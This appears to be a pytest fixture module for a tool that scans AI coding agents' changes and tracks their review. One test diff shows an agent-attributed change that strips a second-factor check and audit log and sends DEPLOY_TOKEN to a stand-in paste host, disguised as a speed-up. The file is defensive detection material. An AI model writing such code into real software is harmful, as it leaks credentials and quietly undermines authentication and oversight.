# ruff: noqa: ANN401, ARG001 -- a fixture's type lives in conftest; some only set the scene
"""A real store with two repositories, agents' changes at every risk, and 26 weeks landed."""

import hashlib
import random
import shutil
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from dataclasses import dataclass, replace
from datetime import UTC, datetime, timedelta
from pathlib import Path
from types import SimpleNamespace
from typing import Any

import pytest
from flask import Flask
from flask.testing import FlaskClient

from reviewqueue import pipeline
from reviewqueue.domain.attribution import Attribution, Certainty
from reviewqueue.domain.change import (
    Change,
    ChangeState,
    DatedBy,
    Repository,
    RepositoryKind,
    Revision,
)
from reviewqueue.domain.event import Assigned, Attributed, Evaluated, Fact, Moved, Pulled, Scanned
from reviewqueue.domain.finding import (
    Confidence,
    Finding,
    Location,
    Pathway,
    Risk,
    Scan,
    Severity,
    Side,
    fingerprint,
    worst,
)
from reviewqueue.domain.landing import Landing, ReviewClass
from reviewqueue.domain.people import Person
from reviewqueue.domain.review import Assignment
from reviewqueue.gate import evaluate
from reviewqueue.scan.diff import Diff
from reviewqueue.settings import Settings, read_settings
from reviewqueue.store import Store
from reviewqueue.web import create_app
from reviewqueue.web.site import EXTENSION

NOW = datetime(2026, 11, 21, 10, 0, tzinfo=UTC)
ADA = Person("Ada Lovelace", "ada@harbour.example")
GRACE = Person("Grace Hopper", "grace@harbour.example")
KATHERINE = Person("Katherine Johnson", "katherine@harbour.example")
LINUS = Person("Linus Operator", "linus@harbour.example")
CLAUDE = Person("Claude", "noreply@anthropic.com")

PATCH = b"""diff --git a/deploy/session.py b/deploy/session.py
index 1111111..2222222 100644
--- a/deploy/session.py
+++ b/deploy/session.py
@@ -1,10 +1,15 @@
 \"\"\"Sessions of the deploy tool.\"\"\"

+import os
+import urllib.request
+
 def open_session(user):
-    require_second_factor(user)
-    audit.log("session", user)
+    # keep the tests fast
+    token = os.environ["DEPLOY_TOKEN"]
+    urllib.request.urlopen("https://paste.example/new", data=token.encode())
     return Session(user)


 def close_session(session):
+    session.flush()
     session.close()
diff --git a/docs/sessions.md b/docs/sessions.md
new file mode 100644
index 0000000..3333333
--- /dev/null
+++ b/docs/sessions.md
@@ -0,0 +1,3 @@
+# Sessions
+
+A session opens with `open_session`.
"""


def sha(text: str) -> str:
    return hashlib.sha1(text.encode(), usedforsecurity=False).hexdigest()


def make_finding(
    rule: str,
    pathway: Pathway,
    severity: Severity,
    message: str,
    path: str,
    line: int | None,
    side: Side,
    evidence: str,
) -> Finding:
    places = (Location(path, line, side, evidence),)
    return Finding(
        rule,
        pathway,
        severity,
        Confidence.HIGH,
        message,
        places,
        fingerprint(rule, places),
    )


STOLEN = make_finding(
    "credential-hunt",
    Pathway.CREDENTIALS,
    Severity.CRITICAL,
    "reads a deployment credential from the environment and uses it at once",
    "deploy/session.py",
    8,
    Side.NEW,
    'token = os.environ["DEPLOY_TOKEN"]',
)
SENT = make_finding(
    "public-paste",
    Pathway.EXFILTRATION,
    Severity.HIGH,
    "sends data to a public paste site",
    "deploy/session.py",
    9,
    Side.NEW,
    'urllib.request.urlopen("https://paste.example/new", data=token.encode())',
)
UNGUARDED = make_finding(
    "guard-removed",
    Pathway.SAFETY_SABOTAGE,
    Severity.HIGH,
    "removes a check that stood before a privileged action",
    "deploy/session.py",
    4,
    Side.OLD,
    "require_second_factor(user)",
)


class Corpus:
    """Records nouns as the pipeline would, through the ledger."""

    def __init__(self, store: Store) -> None:
        self.store = store
        self.start = NOW - timedelta(days=1)

    def record(self, *facts: Fact, at: datetime | None = None) -> None:
        with self.store.writing() as writer:
            for fact in facts:
                writer.record(at or self.start, "reviewqueue", fact)

    def repository(
        self, name: str = "harbour", kind: RepositoryKind = RepositoryKind.DEMO
    ) -> Repository:
        noun = Repository(
            id=name,
            name=name,
            address=f"/srv/{name}.git",
            kind=kind,
            default_branch="main",
            first_seen_at=self.start,
        )
        self.record(noun)
        return noun

    def change(
        self,
        title: str,
        *,
        repository: str = "harbour",
        agent: str | None = "claude",
        findings: tuple[Finding, ...] = (),
        unscannable: str | None = None,
        reviewers: tuple[Person, ...] = (ADA, GRACE),
        age: timedelta = timedelta(hours=5),
        branch: str = "claude/sessions",
        scanned: bool = True,
        message: str = "",
    ) -> SimpleNamespace:
        opened = NOW - age
        noun = Change(
            id=sha(title + repository)[:12],
            repository=repository,
            ref=f"refs/heads/{branch}",
            branch=branch,
            number=None,
            title=title,
            author=CLAUDE,
            opened_at=opened,
            dated_by=DatedBy.SIGHTING,
        )
        self.record(noun, at=opened)
        revision = self.revision(noun, 1, seen_at=opened, message=message or title)
        attribution = Attribution(
            agent=agent,
            confidence=Certainty.DECLARED if agent else Certainty.NONE,
            operator=LINUS,
            evidence=("the author of its commits is Claude <noreply@anthropic.com>",),
            operator_evidence="Linus Operator committed what the agent wrote",
        )
        self.record(
            Attributed(change=noun.id, revision=revision.sha, attribution=attribution), at=opened
        )
        made = SimpleNamespace(
            id=noun.id, change=noun, revision=revision, sha=revision.sha, attribution=attribution
        )
        if scanned:
            self.scan(made, findings, unscannable)
        self.assign(made, reviewers)
        self.evaluate(made)
        return made

    def revision(
        self, change: Change, number: int, *, seen_at: datetime, message: str = ""
    ) -> Revision:
        noun = Revision(
            change=change.id,
            number=number,
            sha=sha(f"{change.id}/{number}"),
            base=sha("base"),
            seen_at=seen_at,
            message=message,
            authors=(CLAUDE, LINUS),
            pusher=LINUS,
            commits=(sha(f"{change.id}/{number}"),),
            content_id=sha(f"content {change.id}/{number}"),
        )
        self.record(noun, at=seen_at)
        return noun

    def scan(
        self, made: Any, findings: tuple[Finding, ...], unscannable: str | None = None
    ) -> Scan:
        noun = Scan(
            risk=Risk.HIGH if unscannable else worst(findings),
            findings=findings,
            unscannable=unscannable,
            files=2,
            added=9,
            removed=2,
            rules_version="0123456789abcdef",
        )
        self.record(Scanned(change=made.id, revision=made.sha, scan=noun))
        return noun

    def assign(self, made: Any, reviewers: tuple[Person, ...]) -> None:
        assignments = tuple(
            Assignment(
                change=made.id,
                revision=made.sha,
                reviewer=person,
                reasons=(
                    "owns deploy/ (CODEOWNERS line 3)",
                    "changed deploy/session.py 7 times in the last 90 days",
                ),
                at=self.start,
                due_at=NOW + timedelta(hours=20),
            )
            for person in reviewers
        )
        note = "" if assignments else "nobody on the roster had no part in it"
        self.record(Assigned(change=made.id, revision=made.sha, assignments=assignments, note=note))

    def evaluate(self, made: Any) -> None:
        with self.store.writing() as writer:
            verdict = evaluate(
                made.change,
                made.revision,
                made.attribution,
                writer.scan(made.id, made.sha),
                writer.decisions(made.id),
                writer.dispositions(made.id),
                development_counts=True,
                now=NOW,
            )
            fact = Evaluated(change=made.id, revision=made.sha, verdict=verdict)
            writer.record(self.start, "reviewqueue", fact)

    def land(self, made: Any, review_class: ReviewClass = ReviewClass.REVIEWED) -> None:
        landing = self.landing(
            made.change.repository, review_class, NOW - timedelta(days=2), "pilots"
        )
        self.record(
            replace(landing, change=made.id, revision=made.sha, title=made.change.title),
            Moved(change=made.id, state=ChangeState.LANDED, reason="merged"),
        )

    def landing(
        self, repository: str, review_class: ReviewClass, at: datetime, team: str, number: int = 0
    ) -> Landing:
        flagged = number % 9 == 0
        return Landing(
            repository=repository,
            sha=sha(f"{repository} {team} {at} {number}"),
            change=None,
            revision=None,
            landed_at=at,
            dated_by=DatedBy.SIGHTING,
            seen_at=at,
            by=ADA,
            title=f"Tidy the {team}' module {number}",
            attribution=Attribution(
                "claude" if number % 3 else "codex",
                Certainty.DECLARED,
                LINUS,
                ("a trailer says so",),
            ),
            team=team,
            risk=Risk.HIGH if flagged else Risk.LOW,
            unscannable=False,
            findings=int(flagged),
            unanswered=int(flagged and review_class is not ReviewClass.REVIEWED),
            added=20 + number % 40,
            removed=number % 17,
            review_class=review_class,
            reason="Ada Lovelace approved the content that landed."
            if review_class is ReviewClass.REVIEWED
            else "It landed without a standing approval.",
        )

    def history(self) -> None:
        """Land 26 weeks of two teams: pilots keep reviewing, engines stop."""
        chance = random.Random(7)  # noqa: S311 -- a repeatable history
        facts: list[tuple[datetime, Fact]] = []
        for week in range(26, 0, -1):
            monday = datetime(2026, 11, 16, tzinfo=UTC) - timedelta(weeks=week)
            for team, share in (("pilots", 0.97), ("engines", 0.95 if week > 10 else 0.45)):
                for number in range(chance.randint(8, 14)):
                    at = monday + timedelta(hours=8 + 11 * number)
                    review = (
                        ReviewClass.REVIEWED
                        if chance.random() < share
                        else chance.choice(
                            [ReviewClass.NONE, ReviewClass.STALE, ReviewClass.REQUESTER_ONLY]
                        )
                    )
                    repository = "lighthouse" if team == "engines" else "harbour"
                    facts.append(
                        (at, self.landing(repository, review, at, team, week * 100 + number))
                    )
        with self.store.writing() as writer:
            for at, fact in sorted(facts, key=lambda pair: pair[0]):
                writer.record(at, "reviewqueue", fact)
            writer.record(
                NOW,
                "reviewqueue",
                Pulled(
                    repository="harbour",
                    tip=sha("tip"),
                    heads=9,
                    landings=286,
                    left_out={"no agent": 5, "contained": 2},
                ),
            )


@pytest.fixture
def settings(tmp_path: Path) -> Settings:
    return make_settings(tmp_path)


def make_settings(folder: Path) -> Settings:
    return read_settings(data_dir=folder, secret_key="a key for tests", database_url="")


@contextmanager
def opened(folder: Path) -> Iterator[Store]:
    settings = make_settings(folder)
    made = Store(settings.store_url, settings.anchor)
    yield made
    made.close()


@pytest.fixture(scope="session")
def filled(blank: Path, tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, "Seeded"]:
    """A folder with the full corpus, to be copied."""
    folder = tmp_path_factory.mktemp("filled")
    shutil.copytree(blank, folder, dirs_exist_ok=True)
    with opened(folder) as made:
        return folder, fill(Corpus(made))


@pytest.fixture
def store(settings: Settings, blank: Path) -> Iterator[Store]:
    shutil.copytree(blank, settings.data_dir, dirs_exist_ok=True)
    with opened(settings.data_dir) as made:
        yield made


@pytest.fixture
def corpus(store: Store) -> Corpus:
    return Corpus(store)


@dataclass
class Seeded:
    """What the full corpus holds."""

    dangerous: Any
    plain: Any
    landed: Any
    corpus: Corpus


def fill(corpus: Corpus) -> Seeded:
    """Record the full corpus."""
    corpus.repository()
    corpus.repository("lighthouse")
    dangerous = corpus.change(
        "Speed up session start in the deploy tool", findings=(STOLEN, SENT, UNGUARDED)
    )
    plain = corpus.change(
        "Explain sessions in the handbook",
        agent="copilot",
        age=timedelta(days=3),
        branch="copilot/fix-docs",
        reviewers=(KATHERINE,),
    )
    corpus.change(
        "Bump the container's base image and its lock file",
        repository="lighthouse",
        agent="codex",
        unscannable="a file holds NUL bytes: assets/logo.svg",
        branch="codex/base-image",
        reviewers=(),
    )
    corpus.change(
        "Retry the upload of telemetry",
        repository="lighthouse",
        agent="devin",
        findings=(replace(SENT, severity=Severity.MEDIUM),),
        age=timedelta(days=9),
        branch="devin/1763-telemetry",
    )
    corpus.change(
        "Rename two helpers",
        agent="cursor",
        findings=(replace(SENT, severity=Severity.LOW),),
        branch="cursor/rename",
    )
    landed = corpus.change("Cache the chart of the tides", branch="claude/tides")
    corpus.land(landed)
    corpus.history()
    return Seeded(dangerous, plain, landed, corpus)


@pytest.fixture
def seeded(corpus: Corpus, filled: tuple[Path, Seeded], settings: Settings) -> Seeded:
    folder, made = filled
    shutil.copytree(folder, settings.data_dir, dirs_exist_ok=True)
    return replace(made, corpus=corpus)


@pytest.fixture
def patches(monkeypatch: pytest.MonkeyPatch) -> dict[str, Diff]:
    """The diffs that git would give, by revision; any other revision has two plain files."""
    found: dict[str, Diff] = {}

    def change_diff(_store: Store, _settings: Settings, _change: str, revision: str) -> Diff:
        return found.get(revision, Diff(PATCH))

    monkeypatch.setattr(pipeline, "change_diff", change_diff)
    return found


def at_now(app: Flask) -> Flask:
    app.extensions[EXTENSION] = replace(app.extensions[EXTENSION], clock=lambda: NOW)
    return app


@pytest.fixture
def make_app(settings: Settings, store: Store) -> Callable[..., Flask]:
    """Make applications over the test's store, at a fixed moment."""

    def make(**options: bool) -> Flask:
        app = at_now(create_app(settings, **options))
        app.testing = False
        return app

    return make


@pytest.fixture
def app(make_app: Callable[..., Flask], patches: dict[str, Diff]) -> Flask:
    return make_app(dev=True, demo=True)


class Visitor:
    """A browser without a script: follows forms with the tokens that the page gave."""

    def __init__(self, client: FlaskClient) -> None:
        self.client = client

    def get(self, path: str, **options: Any) -> Any:
        return self.client.get(path, base_url="http://localhost:8000", buffered=True, **options)

    def token(self, path: str = "/") -> str:
        text = self.get(path).text
        return text.split('name="csrf_token" value="')[1].split('"')[0]

    def post(self, path: str, *, page: str = "/", **fields: str) -> Any:
        headers = fields.pop("headers", {})
        return self.client.post(
            path,
            data={"csrf_token": self.token(page), **fields},
            base_url="http://localhost:8000",
            headers=headers,
        )

    def act_as(self, person: Person) -> "Visitor":
        answer = self.post("/sign-in", page="/sign-in", person=person.handle)
        assert answer.status_code == 303
        return self


@pytest.fixture
def visitor(app: Flask) -> Visitor:
    return Visitor(app.test_client())


@pytest.fixture
def visit() -> type[Visitor]:
    """Make visitors of other applications."""
    return Visitor
